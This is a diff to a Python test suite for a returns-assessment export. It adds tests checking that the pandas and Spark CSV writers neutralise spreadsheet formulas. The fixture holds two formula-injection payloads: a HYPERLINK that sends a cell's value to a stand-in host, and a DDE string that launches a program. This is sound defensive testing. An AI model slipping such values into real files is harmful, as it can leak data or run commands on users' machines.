@@ -128,6 +128,31 @@ def test_parquet_export_and_csv_output_round_trip(export_dir, models, pandas_row
     assert written["decision"].tolist() == pandas_rows.sort_values("return_id")["decision"].tolist()
 
 
+FORMULAS = {"return_id": '=HYPERLINK("http://x.example/?"&A1,"click")', "customer_id": "@SUM(1+1)*cmd|' /C calc'!A0"}
+
+
+def _with_formula_ids(rows: pd.DataFrame) -> pd.DataFrame:
+    """`rows` whose first return has ids a spreadsheet would run: a shop's export holds ids as its system wrote them."""
+    rows = rows.copy()
+    for column, formula in FORMULAS.items():
+        rows.loc[rows.index[0], column] = formula
+    return rows
+
+
+def _written_cells(output: Path) -> list[str]:
+    return [
+        cell for part in sorted(output.glob("part-*.csv")) for cell in pd.read_csv(part, dtype=str).iloc[:, :2].stack()
+    ]
+
+
+def test_a_csv_of_assessments_writes_no_cell_a_spreadsheet_would_run(pandas_rows, tmp_path) -> None:
+    # `batch score --format csv` wrote the export's ids as they came: `=HYPERLINK(...)` ran when the file was opened
+    write_assessments(_with_formula_ids(pandas_rows), tmp_path / "out", "csv")
+    cells = _written_cells(tmp_path / "out")
+    assert {f"'{formula}" for formula in FORMULAS.values()} <= set(cells)
+    assert not set(FORMULAS.values()) & set(cells)
+
+
 def test_since_assesses_only_the_later_returns_as_the_full_run_does(export_dir, models, pandas_rows) -> None:
     """A backfill of recent returns: the same rows as assessing everything, for the returns it keeps."""
     since = pandas_rows["request_ts"].sort_values().iloc[len(pandas_rows) // 2]
@@ -345,6 +370,17 @@ def test_spark_gives_the_same_rows_as_pandas(spark, export_dir, models, pandas_r
             np.testing.assert_allclose(on_spark[column], on_pandas[column], rtol=0, atol=1e-9, err_msg=column)
         else:
             assert on_spark[column].tolist() == on_pandas[column].tolist(), column
+
+
+def test_spark_writes_a_csv_of_assessments_spreadsheet_safe_as_pandas_does(spark, pandas_rows, tmp_path) -> None:
+    from serving.spark_scoring import OUTPUT_SCHEMA, write_assessments
+
+    rows = _with_formula_ids(pandas_rows)[list(HISTORY_OUTPUT_COLUMNS)]
+    rows = rows.assign(request_ts=rows["request_ts"].dt.strftime("%Y-%m-%d %H:%M:%S"))
+    write_assessments(spark.createDataFrame(rows, schema=OUTPUT_SCHEMA), tmp_path / "spark", "csv")
+    cells = _written_cells(tmp_path / "spark")
+    assert {f"'{formula}" for formula in FORMULAS.values()} <= set(cells)
+    assert not set(FORMULAS.values()) & set(cells)
 
 
 def _score_refused_before_the_models(
